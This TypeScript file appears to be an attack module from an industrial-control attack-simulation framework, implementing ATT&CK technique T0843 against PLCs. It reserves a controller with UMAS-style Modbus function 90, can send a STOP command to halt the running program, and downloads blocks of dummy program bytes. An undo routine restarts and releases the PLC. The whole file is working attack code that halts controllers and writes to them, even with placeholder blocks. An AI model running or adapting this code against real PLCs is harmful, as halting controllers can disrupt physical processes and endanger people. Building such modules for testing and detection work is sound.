// T0843 Program Download: a foreign workstation reserves the PLC with function 90, after the manner of UMAS, and sends blocks of
// a program. When it is told to, it stops the program that runs.
import { z } from 'zod'
import { LinkFault } from '../plc/modbus-link.ts'
import type { Attack } from './attack.ts'
import { EverySeconds, wordBytes } from './burst.ts'
import { answered, KeptLink } from './kept-link.ts'

const FUNCTION = 90
const READ_ID = 0x02
const RESERVE = 0x10
const RELEASE = 0x11
const BLOCK = 0x31
const RUN = 0x40
const STOP = 0x41
const DONE = 0xfe
// What every PLC counts while its program runs.
const STANDS_STILL = 'plc.scan-count'

const Parameters = z.strictObject({
  stop: z.boolean().default(false).describe('Whether the program of the PLC is stopped as well.'),
  blocks: z.int().min(1).max(50).default(5).describe('How many blocks of the program are sent at each strike.'),
  blockBytes: z.int().min(1).max(200).default(200).describe('How long a block is.'),
  everySeconds: EverySeconds
})

export const programMode = {
  name: 'program-mode',
  title: { zh: '程序下装', en: 'Program download' },
  technique: 'T0843',
  parameters: Parameters,
  async aim(foothold, { stop, blocks, blockBytes, everySeconds }) {
    const link = await KeptLink.open(foothold)
    let session = 0
    let sent = 0
    const say = (what: number, ...bytes: number[]) => link.request(Uint8Array.of(FUNCTION, session, what, ...bytes))
    // A reservation lapses when the workstation is silent for long, and ends with a restart of communications: it is taken again.
    const reserve = async () => {
      const reply = await say(RESERVE)
      if (isDone(reply)) session = reply[3] ?? 0
      return isDone(reply)
    }
    const download = async () => {
      await say(READ_ID)
      await reserve()
      if (stop) await say(STOP)
      for (let i = 0; i < blocks; i++, sent++) await say(BLOCK, ...wordBytes(sent & 0xffff), ...blockOf(sent, blockBytes))
    }
    return {
      ...{ tags: stop ? [STANDS_STILL] : [], hosts: [link.host], insistSeconds: everySeconds },
      strike: async () => void (await answered(download)),
      async undo() {
        if (session !== 0) {
          await reserve()
          if (stop && !isDone(await say(RUN))) throw new LinkFault('LINK_REFUSED', 'the program could not be started again')
          await say(RELEASE)
        }
        await link.cut()
      }
    }
  }
} satisfies Attack<typeof Parameters>

const isDone = (reply: Buffer): boolean => reply[0] === FUNCTION && reply[2] === DONE

// Code as good as any: no PLC is to run it.
const blockOf = (number: number, bytes: number): number[] => Array.from({ length: bytes }, (_, i) => (number * 31 + i * 7) & 0xff)
